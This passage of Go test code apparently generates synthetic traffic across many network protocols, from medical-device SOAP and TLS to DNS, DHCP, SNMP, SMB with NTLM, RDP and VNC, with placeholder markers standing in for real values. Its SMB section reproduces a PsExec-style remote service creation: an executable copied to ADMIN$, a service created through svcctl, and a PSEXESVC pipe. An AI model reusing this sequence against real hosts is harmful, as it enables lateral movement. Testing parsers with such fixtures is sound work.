		`<pm:Vmd Handle="pump"><pm:Type Code="69986"/><pm:Channel Handle="line"><pm:Metric` + attr("Handle", "operation target") + `><pm:Type Code="157784"/><pm:Unit Code="265266"/></pm:Metric></pm:Channel></pm:Vmd></pm:Mds></pm:MdDescription>` +
		`<pm:MdState><pm:State` + attr("DescriptorHandle", "operation target") + `><pm:MetricValue Value="5"/></pm:State><pm:State xsi:type="pm:StringMetricState" DescriptorHandle="x"><pm:MetricValue` + attr("Value", "string value") + `/></pm:State><pm:State ` + patient + `</pm:State></pm:MdState></msg:Mdib></msg:GetMdibResponse>`
	handle := func(field string) string { return in("msg:OperationHandleRef", field) }
	invoked := func(operation, state string) string {
		return `<msg:` + operation + `Response><msg:InvocationInfo><msg:InvocationState>` + state + `</msg:InvocationState>` + in("msg:InvocationErrorMessage", "invocation error") + `</msg:InvocationInfo></msg:` + operation + `Response>`
	}
	metadata := `<mex:Metadata><mex:MetadataSection Dialect="http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01/ThisModel"><w:ThisModel>` + in("w:Manufacturer", "manufacturer") + in("w:ModelName", "model") + in("w:ModelUrl", "model URL") + `</w:ThisModel></mex:MetadataSection>` +
		`<mex:MetadataSection Dialect="http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01/ThisDevice"><w:ThisDevice>` + in("w:FriendlyName", "friendly name") + in("w:FirmwareVersion", "firmware version") + in("w:SerialNumber", "serial number") + `</w:ThisDevice></mex:MetadataSection></mex:Metadata>`
	var pieces []testpeer.Piece
	ask := func(body, answer string) {
		pieces = append(pieces, says(m.request("POST /"+mark("path"), kind, soap("x", body, heads...))), answers(m.response(kind, soap("x", answer, heads...))))
	}
	ask("<msg:GetMdib/>", described)
	ask("<x/>", metadata)
	ask(`<msg:SetValue>`+handle("operation handle")+`<msg:RequestedNumericValue>100</msg:RequestedNumericValue></msg:SetValue>`, invoked("SetValue", "Fin"))
	ask(`<msg:SetString>`+handle("handle of an unknown operation")+in("msg:RequestedStringValue", "string set")+`</msg:SetString>`, invoked("SetString", "Fail"))
	ask(`<msg:SetContextState>`+handle("handle of a context")+`<msg:ProposedContextState `+patient+`</msg:ProposedContextState></msg:SetContextState>`, `<s:Fault><s:Code><s:Value>s:Sender</s:Value></s:Code><s:Reason><s:Text>`+mark("fault")+`</s:Text></s:Reason></s:Fault>`)
	ask(`<msg:EpisodicMetricReport><msg:ReportPart>`+in("msg:SourceMds", "source")+`<msg:MetricState`+attr("DescriptorHandle", "reported handle")+`/></msg:ReportPart></msg:EpisodicMetricReport>`, "")
	ask(`<msg:OperationInvokedReport><msg:ReportPart`+attr("OperationHandleRef", "operation reported")+attr("OperationTarget", "target reported")+`><msg:InvocationInfo><msg:InvocationState>Fin</msg:InvocationState></msg:InvocationInfo></msg:ReportPart></msg:OperationInvokedReport>`, "")
	ask(`<msg:`+mark("operation")+`/>`, `<msg:`+mark("operation")+`Response/>`)
	m.tcp(6464, pieces...)
}

// TLS.

// A loopback is a connection in memory that remembers what passed.
type loopback struct {
	net.Conn
	mu     *sync.Mutex
	pieces *[]testpeer.Piece
	server bool
}

func (l loopback) Write(b []byte) (int, error) {
	l.mu.Lock()
	*l.pieces = append(*l.pieces, testpeer.Piece{FromServer: l.server, Bytes: append([]byte(nil), b...)})
	l.mu.Unlock()
	return l.Conn.Write(b)
}

// certificate is of a subject, and signed by its issuer, both with markers.
func (m *marker) certificate(who, name string, hosts ...string) tls.Certificate {
	subject := func(who, name string) pkix.Name {
		mark := func(field string) []string { return []string{m.mark(who + " " + field)} }
		return pkix.Name{
			CommonName: name, Organization: mark("O"), OrganizationalUnit: mark("OU"), Locality: mark("L"), Province: mark("ST"), StreetAddress: mark("street"),
			PostalCode: mark("postal code"), SerialNumber: mark("serialNumber")[0], Country: []string{"XX"},
			ExtraNames: []pkix.AttributeTypeAndValue{{Type: []int{2, 5, 4, 4}, Value: mark("surname")[0]}, {Type: []int{1, 2, 840, 113549, 1, 9, 1}, Value: mark("e-mail")[0]}},
		}
	}
	var keys [2]*ecdsa.PrivateKey
	for i := range keys {
		var err error
		if keys[i], err = ecdsa.GenerateKey(elliptic.P256(), crand.Reader); err != nil {
			m.tap.t.Fatal(err)
		}
	}
	from := m.tap.now
	issuer := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: subject(who+"'s issuer", m.mark(who+"'s issuer CN")), NotBefore: from.Add(-time.Hour), NotAfter: from.AddDate(1, 0, 0)}
	cert := &x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: subject(who, name), NotBefore: issuer.NotBefore, NotAfter: issuer.NotAfter, DNSNames: hosts,
		CRLDistributionPoints: []string{"http://" + m.mark(who+" CRL")}, OCSPServer: []string{"http://" + m.mark(who+" OCSP")},
	}
	if hosts != nil {
		cert.EmailAddresses = []string{m.mark(who+" SAN e-mail") + "@x"}
		cert.URIs = []*url.URL{{Scheme: "urn", Opaque: m.mark(who + " SAN URI")}}
	}
	der, err := x509.CreateCertificate(crand.Reader, cert, issuer, &keys[0].PublicKey, keys[1])
	if err != nil {
		m.tap.t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: keys[0]}
}

func sayTLS(m *marker) {
	handshake := func(client, server tls.Certificate) {
		var mu sync.Mutex // of pieces
		var pieces []testpeer.Piece
		a, b := net.Pipe()
		protocols := []string{m.mark("ALPN")}
		done := make(chan error, 1)
		go func() {
			s := tls.Server(loopback{b, &mu, &pieces, true}, &tls.Config{Certificates: []tls.Certificate{server}, MaxVersion: tls.VersionTLS12, ClientAuth: tls.RequestClientCert, NextProtos: protocols})
			done <- s.Handshake()
		}()
		c := tls.Client(loopback{a, &mu, &pieces, false}, &tls.Config{InsecureSkipVerify: true, ServerName: m.mark("SNI") + ".example", Certificates: []tls.Certificate{client}, NextProtos: protocols})
		if err := c.Handshake(); err != nil {
			m.tap.t.Fatal(err)
		}
		if err := <-done; err != nil {
			m.tap.t.Fatal(err)
		}
		m.tcp(8443, pieces...)
	}
	handshake(m.certificate("client", m.mark("client CN"), m.mark("client SAN")), m.certificate("server", m.mark("server CN beside a SAN"), m.mark("server SAN")+".example"))
	handshake(m.certificate("client", m.mark("client CN")), m.certificate("server", m.mark("server CN")))
	handshake(m.certificate("client", m.mark("client CN")), m.certificate("server", m.mark("server CN that is no host's")+" Holm"))
}

// DNS.

func dnsName(labels ...string) (b []byte) {
	for _, l := range labels {
		b = append(b, shortCounted(l)...)
	}
	return append(b, 0)
}

func dnsRecord(typ int, name []byte, data ...any) []byte {
	return cat(name, be16(typ), be16(1), be32(120), counted(data...))
}

func dnsMessage(flags uint16, questions []any, answers ...any) []byte {
	return cat(be16(7), be16(flags), be16(len(questions)), be16(len(answers)), be16(0), be16(0), cat(questions...), cat(answers...))
}

func sayDNS(m *marker) {
	const a, cname, ptr, hinfo, mx, txt, srv = 1, 5, 12, 13, 15, 16, 33
	host := dnsName(m.mark("name"), m.mark("domain"), "example")
	question := []any{cat(host, be16(a), be16(1))}
	ip := net.ParseIP(m.client).To4()
	m.udp(53, says(dnsMessage(0x100, question)), answers(dnsMessage(0x8180, question, dnsRecord(cname, host, dnsName(m.mark("alias"), "example")), dnsRecord(a, dnsName(m.mark("address record")), []byte(ip)),
		dnsRecord(txt, host, shortCounted("v=spf1 "+m.mark("TXT"))), dnsRecord(mx, host, be16(10), dnsName(m.mark("mail exchange"))), dnsRecord(hinfo, host, shortCounted(m.mark("CPU")), shortCounted(m.mark("OS"))))))
	long := []any{cat(dnsName(m.mark("long name")+strings.Repeat("q7x", 15), m.mark("second label"), m.mark("domain of a long name"), "example"), be16(txt), be16(1))}
	m.udp(53, says(dnsMessage(0x100, long)), answers(dnsMessage(0x8183, long)))

	service := dnsName("_dicom", "_tcp", "local")
	instance := dnsName(m.mark("mDNS instance"), "_dicom", "_tcp", "local")
	self := dnsName(m.mark("mDNS host"), "local")
	pair := func(key string) []byte { return shortCounted(key + "=" + m.mark("TXT "+key)) }
	m.between(5353, 5353, answers(dnsMessage(0x8400, nil, dnsRecord(ptr, service, instance), dnsRecord(srv, instance, be16(0), be16(0), be16(104), self),
		dnsRecord(txt, instance, pair("manufacturer"), pair("model"), pair("fn"), pair("note"), pair("user"), shortCounted(m.mark("TXT key")+"=1")), dnsRecord(a, self, []byte(net.ParseIP(m.server).To4())))),
		says(dnsMessage(0, []any{cat(dnsName(m.mark("mDNS question"), "_ipp", "_tcp", "local"), be16(ptr), be16(1))})))
}

// DHCP.

func sayDHCP(m *marker) {
	option := func(code int, v ...any) []byte { return cat(code, shortCounted(v...)) }
	client, server := net.ParseIP(m.client).To4(), net.ParseIP(m.server).To4()
	message := func(op int, kind int, yours []byte, options ...any) []byte {
		b := cat(op, 1, 6, 0, be32(0x26030300), be32(0), zero(4), yours, zero(8), []byte{0, 0, 0x5e, 0, 0x53, 0x77}, zero(10))
		who := "client's"
		if op == 2 {
			who = "server's"
		}
		sname, file := zero(64), zero(128)
		copy(sname, m.mark(who+" sname"))
		copy(file, m.mark(who+" file"))
		return cat(b, sname, file, []byte{99, 130, 83, 99}, option(53, kind), cat(options...), 255)
	}
	own := cat(option(12, m.mark("host name")), option(60, m.mark("vendor class")), option(61, 0, m.mark("client id")), option(77, m.mark("user class")),
		option(43, 1, shortCounted(m.mark("vendor information"))), option(15, m.mark("client's domain")), option(124, be32(9), shortCounted(m.mark("vendor-identifying class"))))
	given := cat(option(54, []byte(server)), option(51, be32(28800)), option(1, []byte{255, 255, 255, 0}), option(3, []byte(server)), option(15, m.mark("domain")), option(17, m.mark("root path")), option(40, m.mark("NIS domain")),
		option(56, m.mark("message")), option(66, m.mark("TFTP server")), option(67, m.mark("boot file")), option(119, dnsName(m.mark("search domain"))))
	none := zero(4)
	m.udp(67, says(message(1, 1, none, own)), answers(message(2, 2, client, given)), says(message(1, 3, none, own, option(81, 0, 0, 0, m.mark("client FQDN")), option(50, []byte(client)), option(54, []byte(server)))), answers(message(2, 5, client, given)))

	v6 := func(code int, v ...any) []byte { return cat(be16(code), counted(v...)) }
	m.udp(547, says(cat(1, 0, 1, 2, v6(1, be16(2), be32(9), m.mark("DUID")), v6(39, 0, shortCounted(m.mark("FQDN of version 6")), 0), v6(16, be32(9), counted(m.mark("vendor class of version 6"))), v6(15, counted(m.mark("user class of version 6"))))),
		answers(cat(7, 0, 1, 2, v6(1, be16(2), be32(9), m.mark("DUID")), v6(2, be16(2), be32(9), m.mark("server's DUID")), v6(13, be16(0), m.mark("status message")), v6(24, dnsName(m.mark("search domain of version 6"))))))
}

func sayNTP(m *marker) {
	head := func(mode, stratum int, reference string) []byte {
		return cat(mode, stratum, 6, 0xec, zero(8), reference, zero(32))
	}
	extension := cat(be16(0x104), be16(4+markerBytes), m.mark("extension field"))
	m.between(123, 123, says(cat(head(0x23, 0, "\x00\x00\x00\x00"), extension)), answers(cat(head(0x24, 1, markerStem[:4]), extension)),
		says(cat(0x16, 2, be16(1), be16(0), be16(0), be16(0), counted(m.mark("variable")))), answers(cat(0x16, 0x82, be16(1), be16(0), be16(0), be16(0), counted("system=", m.mark("variable read")))))
}

// SNMP.

func saySNMP(m *marker) {
	number := func(n int) []byte { return ber(2, n) }
	text := func(field string) []byte { return ber(4, m.mark(field)) }
	system := func(n int, v []byte) []byte { return ber(0x30, ber(6, []byte{0x2b, 6, 1, 2, 1, 1, byte(n), 0}), v) }
	pdu := func(tag int, bindings ...any) []byte {
		return ber(tag, number(7), number(0), number(0), ber(0x30, bindings...))
	}
	get := pdu(0xa0, system(1, ber(5)))
	answer := func(descr string) []byte {
		return pdu(0xa2, system(1, ber(4, descr)), system(4, text("sysContact")), system(5, text("sysName")), system(6, text("sysLocation")), ber(0x30, ber(6, []byte{0x2b, 6, 1, 4, 1, 9, 9}), text("private object")))
	}
	v2c := func(community string, pdu []byte) []byte { return ber(0x30, number(1), ber(4, community), pdu) }
	community := m.mark("community")
	m.udp(161, says(v2c(m.mark("wrong community"), get)), says(v2c(community, get)), answers(v2c(community, answer("Linux "+m.mark("host name in sysDescr")+" 4.4.0 #1 "+m.mark("end of sysDescr")))))
	m.udp(161, says(v2c(community, get)), answers(v2c(community, answer("RouterOS "+m.mark("model")))))
	m.udp(161, says(v2c(community, get)), answers(v2c(community, answer(m.mark("sysDescr")+" "+m.mark("sysDescr's second word")))))
	usm := ber(0x30, ber(4, cat([]byte{0x80, 0, 0, 9, 4}, m.mark("engine id"))), number(1), number(2), text("user"), ber(4), ber(4))
	m.udp(161, says(ber(0x30, number(3), ber(0x30, number(5), ber(2, 5, 0xdc), ber(4, 0), number(3)), ber(4, usm), ber(0x30, ber(4, cat([]byte{0x80, 0, 0, 9, 4}, m.mark("context engine id"))), text("context name"), get))))
	m.udp(162, says(ber(0x30, number(0), text("community of a trap"), ber(0xa4, ber(6, []byte{0x2b, 6, 1, 4, 1, 9}), ber(0x40, 10, 20, 0, 1), number(6), number(1), ber(0x43, 1), ber(0x30, system(5, text("sysName in a trap")))))))
}

func saySSDP(m *marker) {
	head := func(name, before string) string { return name + ": " + before + m.mark(name) + "\r\n" }
	product := "SERVER: Linux/4.4 UPnP/1.0 " + m.mark("product") + "/" + m.mark("product version") + " " + m.mark("rest of SERVER") + "\r\n"
	m.udp(1900, says(cat("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n", head("ST", "urn:"), head("USER-AGENT", "Linux/4 UPnP/1.1 "), head("CPFN.UPNP.ORG", ""), "\r\n")),
		answers(cat("HTTP/1.1 200 OK\r\n", product, head("LOCATION", "http://10.0.0.1/"), head("USN", "uuid:"), head("ST", "urn:x:device:Printer:1:"), head("X-USER", ""), "\r\n")))
	m.udp(1900, says(cat("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: urn:", m.mark("NT"), ":device:", m.mark("device type"), ":1\r\n", head("NTS", "ssdp:alive"), "SERVER: ", m.mark("system"), "/1 UPnP/1.0 ", m.mark("product noted"), "/1\r\n\r\n")))
}

// SMB (MS-SMB2, MS-SMB, MS-CIFS), with NTLM (MS-NLMP).

func direct(b []byte) []byte { return cat(be32(len(b)), b) }

// ntlmMessage lays out the fields behind a head.
func ntlmMessage(head []byte, fixed int, middle []byte, fields ...[]byte) []byte {
	b, off := head, fixed
	for _, f := range fields {
		b = cat(b, le16(len(f)), le16(len(f)), le32(off))
		off += len(f)
	}
	b = cat(b, middle)
	for _, f := range fields {
		b = append(b, f...)
	}
	return b
}

func (m *marker) ntlm() (negotiate, challenge, authenticate []byte) {
	const flags = 0xe2898235
	version := []byte{6, 1, 0xb1, 0x1d, 0, 0, 0, 15}
	negotiate = ntlmMessage(cat("NTLMSSP\x00", le32(1), le32(0xe208b297)), 40, version, cat(m.mark("NTLM supplied domain")), cat(m.mark("NTLM supplied workstation")))
	av := func(id int, v any) []byte { b := cat(v); return cat(le16(id), le16(len(b)), b) }
	info := cat(av(2, wide(m.mark("NTLM domain"))), av(1, wide(m.mark("NTLM server"))), av(4, wide(m.mark("NTLM DNS domain")+".example")), av(3, wide(m.mark("NTLM DNS server")+".example")), av(5, wide(m.mark("NTLM forest"))), av(9, wide(m.mark("NTLM target name"))), le32(0))
	target := cat(wide(m.mark("NTLM domain")))
	challenge = cat("NTLMSSP\x00", le32(2), le16(len(target)), le16(len(target)), le32(56), le32(flags), le64(1), le64(0), le16(len(info)), le16(len(info)), le32(56+len(target)), version, target, info)
	authenticate = ntlmMessage(cat("NTLMSSP\x00", le32(3)), 88, cat(le32(flags), version, zero(16)), zero(24), cat(zero(16), 1, 1, zero(6), le64(1), zero(8), le32(0), info, le32(0)),
		cat(wide(m.mark("NTLM user's domain"))), cat(wide(m.mark("NTLM user"))), cat(wide(m.mark("NTLM workstation"))), zero(16))
	return negotiate, challenge, authenticate
}

func ndrString(s string) []byte {
	n := len(s) + 1
	b := cat(le32(n), le32(0), le32(n), wide(s+"\x00"))
	return append(b, zero((4-len(b)%4)%4)...)
}

// services are what one says to the service control manager, and its answers:
// MS-SCMR section 3.1.4, RCreateServiceW among them.
func (m *marker) services() (out []testpeer.Piece) {
	pdu := func(kind, call int, body []byte) []byte {
		return cat(5, 0, kind, 3, 0x10, 0, 0, 0, le16(16+len(body)), le16(0), le32(call), body)
	}
	svcctl := []byte{0x81, 0xbb, 0x7a, 0x36, 0x44, 0x98, 0xf1, 0x35, 0xad, 0x32, 0x98, 0xf0, 0x38, 0x00, 0x10, 0x03, 2, 0, 0, 0}
	ndr := []byte{0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11, 0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60, 2, 0, 0, 0}
	address := cat(`\PIPE\`, m.mark("secondary address"), 0)
	pad := zero((4 - (2+len(address))%4) % 4)
	out = append(out, says(pdu(11, 1, cat(le16(4280), le16(4280), le32(0), 1, 0, 0, 0, le16(0), 1, 0, svcctl, ndr))),
		answers(pdu(12, 1, cat(le16(4280), le16(4280), le32(1), le16(len(address)), address, pad, 1, 0, 0, 0, le16(0), le16(0), ndr))))
	call := func(opnum int, stub, answer []byte) {
		n := len(out)/2 + 1
		out = append(out, says(pdu(0, n, cat(le32(len(stub)), le16(0), le16(opnum), stub))), answers(pdu(2, n, cat(le32(len(answer)), le16(0), 0, 0, answer))))
	}
	handle := func(n int) []byte { return cat(zero(4), n, zero(15)) }
	call(15, cat(le32(0x20000), ndrString(`\\`+m.mark("machine")), le32(0), le32(0xf003f)), cat(handle(1), le32(0)))
	call(12, cat(handle(1), ndrString(m.mark("service")), le32(0x20004), ndrString(m.mark("display name")), le32(0xf01ff), le32(0x10), le32(3), le32(0), ndrString(`%SystemRoot%\`+m.mark("program")+".exe "+m.mark("argument")),
		le32(0), le32(0), le32(0), le32(0), le32(0x20008), ndrString(m.mark("account")), le32(0x2000c), le32(2*markerBytes), wide(m.mark("account's password")), le32(2*markerBytes)), cat(le32(0), handle(2), le32(0)))
	call(19, cat(handle(2), le32(1), ndrString(m.mark("start argument"))), cat(le32(0)))
	return out
}

func saySMB(m *marker) {
	m.smb2()
	m.smb1()
}

func (m *marker) smb2() {
	negotiate, challenge, authenticate := m.ntlm()
	var pieces []testpeer.Piece
	id := 0
	session, tree := 0, 0
	call := func(command, status int, request, response []byte) {
		head := func(flags, status int) []byte {
			return cat("\xfeSMB", le16(64), le16(1), le32(status), le16(command), le16(31), le32(flags), le32(0), le64(id), le32(0xfeff), le32(tree), le64(session), zero(16))
		}
		pieces = append(pieces, says(direct(cat(head(0, 0), request))), answers(direct(cat(head(1, status), response))))
		id++
	}
	setup := func(token []byte) []byte {
		return cat(le16(25), 0, 1, le32(1), le32(0), le16(88), le16(len(token)), le64(0), token)
	}
	reply := func(token []byte) []byte { return cat(le16(9), le16(0), le16(72), le16(len(token)), token) }
	call(0, 0, cat(le16(36), le16(2), le16(1), le16(0), le32(0), zero(16), le64(0), le16(0x0202), le16(0x0210)),
		cat(le16(65), le16(1), le16(0x0210), le16(0), zero(16), le32(7), le32(1<<20), le32(1<<20), le32(1<<20), le64(1), le64(1), le16(128), le16(0), le32(0)))
	session = 1
	call(1, 0xc0000016, setup(negotiate), reply(challenge))
	call(1, 0, setup(authenticate), reply(nil))
	connect := func(share string, kind int) {
		path := cat(wide(`\\` + m.mark("server in a path") + `\` + share))
		tree++
		call(3, 0, cat(le16(9), le16(0), le16(72), le16(len(path)), path), cat(le16(16), kind, 0, le32(0x30), le32(0), le32(0x1f01ff)))
	}
	create := func(name string) []byte {
		n := cat(wide(name))
		file := cat(le64(id), le64(id))
		call(5, 0, cat(le16(57), 0, 0, le32(2), zero(16), le32(0x40000000), le32(0x80), le32(7), le32(5), le32(0x40), le16(120), le16(len(n)), le32(0), le32(0), n),
			cat(le16(89), 0, 0, le32(2), zero(48), le32(0x80), le32(0), file, le32(0), le32(0)))
		return file
	}
	write := func(file, b []byte) {
		call(9, 0, cat(le16(49), le16(112), le32(len(b)), le64(0), file, le32(0), le32(0), le16(0), le16(0), le32(0), b), cat(le16(17), le16(0), le32(len(b)), le32(0), le16(0), le16(0)))
	}
	connect(m.mark("share"), 1)
	file := create(m.mark("folder") + `\` + m.mark("file name") + ".pdf")
	write(file, cat(m.mark("file's content")))
	call(8, 0, cat(le16(49), 80, 0, le32(64), le64(0), file, le32(0), le32(0), le32(0), le16(0), le16(0), 0), cat(le16(17), 80, 0, le32(markerBytes), le32(0), le32(0), m.mark("content read")))
	connect("ADMIN$", 1)
	write(create(m.mark("program copied")+".exe"), cat("MZ", m.mark("program's content"), zero(64)))
	connect("IPC$", 2)
	pipe := create("svcctl")
	said := m.services()
	for i := 0; i < len(said); i += 2 {
		ask, answer := said[i].Bytes, said[i+1].Bytes
		call(11, 0, cat(le16(57), le16(0), le32(0x0011c017), pipe, le32(120), le32(len(ask)), le32(0), le32(0), le32(0), le32(1024), le32(1), le32(0), ask),
			cat(le16(49), le16(0), le32(0x0011c017), pipe, le32(112), le32(0), le32(112), le32(len(answer)), le32(0), le32(0), answer))
	}
	write(create("PSEXESVC-"+m.mark("pipe")), cat(m.mark("written to a pipe")))
	m.tcp(445, pieces...)
}

func (m *marker) smb1() {
	half := func(name string) []byte {
		full := fmt.Sprintf("%-15s ", strings.ToUpper(name))
		b := []byte{32}
		for _, c := range []byte(full) {
			b = append(b, 'A'+c>>4, 'A'+c&15)
		}
		return append(b, 0)
	}
	names := cat(half(m.mark("called name")), half(m.mark("calling name")))
	mid := 0
	message := func(command int, response bool, words, data []byte) []byte {
		flags := 0x18
		if response {
			flags |= 0x80
		}
		return direct(cat("\xffSMB", command, le32(0), flags, le16(0xc001), zero(12), le16(1), le16(7), le16(1), le16(mid), len(words)/2, words, le16(len(data)), data))
	}
	texts := func(pad int, fields ...string) []byte {
		b := zero(pad)
		for _, f := range fields {
			b = cat(b, wide(f+"\x00"))
		}
		return b
	}
	none := []byte{0xff, 0, 0, 0}
	// The first asks for passwords in clear, the second for none.
	for i, native := range []string{m.mark("native OS"), "Windows 7 " + m.mark("edition")} {
		var pieces []testpeer.Piece
		call := func(command int, words, data, answerWords, answerData []byte) {
			pieces = append(pieces, says(message(command, false, words, data)), answers(message(command, true, answerWords, answerData)))
			mid++
		}
		port := 445
		if i == 0 {
			port = 139
			pieces = append(pieces, says(cat(0x81, 0, be16(len(names)), names)), answers([]byte{0x82, 0, 0, 0}))
		}
		call(0x72, nil, []byte("\x02"+m.mark("dialect")+"\x00\x02NT LM 0.12\x00"), cat(le16(1), 1+2*i, le16(50), le16(1), le32(16644), le32(65536), le32(0), le32(0xe3fd), le64(1), le16(0xffc4), 8),
			cat(le64(1), texts(0, m.mark("negotiated domain"), m.mark("negotiated server"))))
		password := cat(m.mark("password in clear"), 0)
		call(0x73, cat(none, le16(16644), le16(50), le16(0), le32(0), le16(len(password)), le16(0), le32(0), le32(0xd4)), cat(password, texts(len(password)%2^1, m.mark("account"), m.mark("domain"), native, m.mark("native LAN manager"))),
			cat(none, le16(0)), texts(1, native, m.mark("server's LAN manager"), m.mark("server's domain")))
		call(0x75, cat(none, le16(8), le16(markerBytes+1)), cat(m.mark("share password"), 0, texts(0, `\\`+m.mark("server in a path")+`\`+m.mark("share of version 1")), m.mark("service of a share"), 0),
			cat(none, le16(1), le16(0x1ff), le16(0), le16(0x1ff), le16(0)), cat("A:\x00", texts(0, m.mark("file system"))))
		name := `\` + m.mark("file of version 1") + ".csv"
		call(0xa2, cat(none, 0, le16(2*len(name)), le32(0), le32(0), le32(0x80000000), le64(0), le32(0), le32(7), le32(1), le32(0), le32(2), 0), texts(1, name),
			cat(none, 0, le16(0x4001), le32(1), zero(32), le32(0x80), le64(8), le64(8), le16(0), le16(7), 0), nil)
		call(0x2e, cat(none, le16(0x4001), le32(0), le16(8), le16(8), le32(0), le16(0), le32(0)), nil, cat(none, le16(0xffff), le16(0), le16(0), le16(8), le16(60), le32(0), zero(6)), cat(0, m.mark("read of version 1")))
		m.tcp(port, pieces...)
	}
}

func sayDCERPC(m *marker) { m.tcp(49152, m.services()...) }

// NetBIOS (RFC 1002).

func netbiosName(name string, suffix int) []byte {
	b := []byte{32}
	for _, c := range append(fmt.Appendf(nil, "%-15s", strings.ToUpper(name)), byte(suffix)) {
		b = append(b, 'A'+c>>4, 'A'+c&15)
	}
	return append(b, 0)
}

func sayNetBIOS(m *marker) {
	client, server := net.ParseIP(m.client).To4(), net.ParseIP(m.server).To4()
	m.udp(137, says(cat(be16(1), be16(0x2910), be16(1), be16(0), be16(0), be16(1), netbiosName(m.mark("name registered"), 0x20), be16(0x20), be16(1), be16(0xc00c), be16(0x20), be16(1), be32(300), counted(be16(0), []byte(client)))),
		answers(cat(be16(1), be16(0xad80), be16(0), be16(1), be16(0), be16(0), netbiosName(m.mark("name registered"), 0x20), be16(0x20), be16(1), be32(300), counted(be16(0), []byte(client)))))
	row := func(field string, suffix, flags int) []byte {
		return cat(fmt.Sprintf("%-15s", m.mark(field)), suffix, be16(flags))
	}
	m.udp(137, says(cat(be16(2), be16(0), be16(1), be16(0), be16(0), be16(0), netbiosName("*", 0), be16(0x21), be16(1))),
		answers(cat(be16(2), be16(0x8400), be16(0), be16(1), be16(0), be16(0), netbiosName("*", 0), be16(0x21), be16(1), be32(0),
			counted(4, row("workstation", 0, 0x400), row("group", 0, 0x8400), row("messenger user", 3, 0x400), row("file server", 0x20, 0x400), []byte{0, 0, 0x5e, 0, 0x53, 0x78}, zero(40)))))
	m.udp(137, says(cat(be16(3), be16(0x110), be16(1), be16(0), be16(0), be16(0), netbiosName(m.mark("name asked for"), 0), be16(0x20), be16(1))),
		answers(cat(be16(3), be16(0x8580), be16(0), be16(1), be16(0), be16(0), netbiosName(m.mark("name answered"), 0), be16(0x20), be16(1), be32(300), counted(be16(0), []byte(server)))))
	slot := "\\MAILSLOT\\BROWSE\x00"
	words := zero(34)
	words[24] = byte(32 + 1 + 34 + 2 + len(slot))
	server16 := zero(16)
	copy(server16, m.mark("announced server"))
	body := cat("\xffSMB\x25", zero(27), 17, words, le16(0), slot, 1, 0, 0x80, 0xfc, 0x0a, 0, server16, 6, 1, 3, 0x10, 0, 0, 15, 1, 0x55, 0xaa, m.mark("announced comment"), 0)
	names := cat(netbiosName(m.mark("datagram's source"), 0x20), netbiosName(m.mark("datagram's destination"), 0x1d))
	m.between(138, 138, says(cat(0x11, 2, be16(1), []byte(client), be16(138), be16(len(names)+len(body)), be16(0), names, body)))
}

// RDP (MS-RDPBCGR).

func sayRDP(m *marker) {
	tpkt := func(x224 ...any) []byte { b := cat(x224...); return cat(3, 0, be16(4+len(b)), b) }
	connect := func(kind int, rest ...any) []byte { b := cat(rest...); return tpkt(6+len(b), kind, zero(5), b) }
	fixed := func(n int, s string) []byte { b := zero(n); copy(b, cat(wide(s))); return b }
	core := cat(le32(0x80004), le16(800), le16(600), le16(0xca01), le16(0xaa03), le32(0x409), le32(2600), fixed(32, m.mark("client name")), le32(4), le32(0), le32(12), fixed(64, m.mark("input method")),
		le16(0xca01), le16(1), le32(0), le16(24), le16(7), le16(1), fixed(64, m.mark("product id")))
	channel := zero(12)
	copy(channel, m.mark("channel")[:7])
	block := func(kind int, b []byte) []byte { return cat(le16(kind), le16(4+len(b)), b) }
	settings := cat(block(0xc001, core), block(0xc003, cat(le32(1), channel)))
	per := func(n int) []byte { return []byte{0x80 | byte(n>>8), byte(n)} }
	gcc := cat([]byte{0, 5, 0, 0x14, 0x7c, 0, 1}, per(len(settings)+14), []byte{0, 8, 0, 0x10, 0, 1, 0xc0, 0}, "Duca", per(len(settings)), settings)
	params := []byte{0x30, 0x19, 2, 1, 0x22, 2, 1, 2, 2, 1, 0, 2, 1, 1, 2, 1, 0, 2, 1, 1, 2, 2, 0xff, 0xff, 2, 1, 2}
	initial := cat(4, 1, 1, 4, 1, 1, 1, 1, 0xff, params, params, params, ber(4, gcc))
	info := cat(le16(0), le32(0), le32(0x10), wide(m.mark("logon domain")), wide(m.mark("logon user")), wide(m.mark("logon password")), wide(m.mark("logon program")))
	m.tcp(3389, says(connect(0xe0, "Cookie: mstshash=", m.mark("cookie"), "\r\n\x01\x00\x08\x00\x00\x00\x00\x00")), answers(connect(0xd0, "\x02\x00\x08\x00\x00\x00\x00\x00")),
		says(tpkt(2, 0xf0, 0x80, 0x7f, 0x65, 0x82, be16(len(initial)), initial)), says(tpkt(2, 0xf0, 0x80, info)))
	m.tcp(3389, says(connect(0xe0, "Cookie: msts=", m.mark("routing token"), "\r\n\x01\x00\x08\x00\x01\x00\x00\x00")), answers(connect(0xd0, "\x03\x00\x08\x00\x02\x00\x00\x00")))
}

// VNC (RFC 6143).
func sayVNC(m *marker) {
	text := func(field string) []byte { return cat(be32(markerBytes), m.mark(field)) }
	const version = "RFB 003.008\n"
	m.tcp(5900, answers([]byte(version)), says([]byte(version)), answers([]byte{1, 1}), says([]byte{1}), answers(cat(be32(0))), says([]byte{1}),
		answers(cat(be16(800), be16(600), zero(16), text("desktop name"))), says(cat(6, 0, 0, 0, text("client's clipboard"))), answers(cat(3, 0, 0, 0, text("server's clipboard"))))
	m.tcp(5900, answers([]byte(version)), says([]byte(version)), answers([]byte{1, 2}), says([]byte{2}), answers(zero(16)), says(zero(16)), answers(cat(be32(1), text("reason of a refusal"))))
	m.tcp(5900, answers([]byte(version)), says([]byte(version)), answers(cat(0, text("reason to end"))))
}

// SSH (RFC 4253).
func saySSH(m *marker) {
	kex := func(who string) []byte {
		body := cat(20, zero(16))
		for i := range 10 {
			list := m.mark(fmt.Sprintf("common algorithm %d", i)) + "," + m.mark(fmt.Sprintf("%s algorithm %d", who, i)) + "@" + m.mark(who+" domain")
			body = cat(body, be32(len(list)), list)
		}
		body = cat(body, 0, be32(0))
